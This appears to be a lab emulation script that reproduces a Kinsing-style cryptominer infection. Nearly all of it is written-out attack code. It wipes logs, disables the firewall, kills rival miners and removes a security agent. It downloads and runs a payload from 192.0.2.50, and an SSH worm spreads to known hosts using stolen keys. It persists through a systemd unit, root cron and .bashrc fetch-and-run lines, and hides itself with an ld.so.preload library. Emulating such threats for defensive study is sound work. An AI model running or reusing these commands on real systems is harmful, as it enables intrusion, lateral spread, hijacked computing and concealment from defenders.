# Entry by Redis or Docker; two processes restart each other, a script fetches all again each minute.
mimic /tmp/kdevtmpfsi /etc/kinsing /var/tmp/kinsing_oZk3Lq9d
start -d 20 -p "$POOL" /tmp/kdevtmpfsi /tmp/kdevtmpfsi
start -w /tmp /etc/kinsing /etc/kinsing
mkdir -p /tmp/.ICEd-unix
echo 6b1f2c1e >/tmp/.ICEd-unix/uuid
for s in d ex lh; do
  script /tmp/$s.sh <<'SH'
#!/bin/sh
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/ /var/tmp/
ufw disable
iptables -F
echo '0' >/proc/sys/kernel/nmi_watchdog
for p in xmr-stak minerd ddgs qW3xT biosetjenkins watchbog; do pkill -9 -f $p; done
/usr/local/qcloud/YunJing/uninst.sh
curl http://192.0.2.50/kinsing -o /etc/kinsing || wget -O /etc/kinsing http://192.0.2.50/kinsing
chmod 777 /etc/kinsing && nohup /etc/kinsing >/dev/null 2>&1 &
SH
done
script /tmp/spr.sh <<'SH'
#!/bin/bash
for host in $(awk '{print $1}' ~/.ssh/known_hosts); do
  for key in ~/.ssh/id_*; do ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i $key root@$host "(curl http://192.0.2.50/spr.sh||wget -q -O- http://192.0.2.50/spr.sh)|bash" & done
done
SH
put /usr/lib/systemd/system/bot.service <<'UNIT'
[Unit]
Description=Start daemon at boot time
[Service]
Type=forking
ExecStart=/etc/kinsing
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
ln -s /usr/lib/systemd/system/bot.service /etc/systemd/system/multi-user.target.wants/bot.service
echo '* * * * * wget -q -O - http://192.0.2.50/unk.sh | sh > /dev/null 2>&1' | tab root
echo '(curl -s http://192.0.2.50/lh.sh || wget -qO- http://192.0.2.50/lh.sh) | sh >/dev/null 2>&1 &' >>/root/.bashrc
install -m 644 /lab-kit/hider.so /etc/libsystem.so
echo /etc/libsystem.so >/etc/ld.so.preload
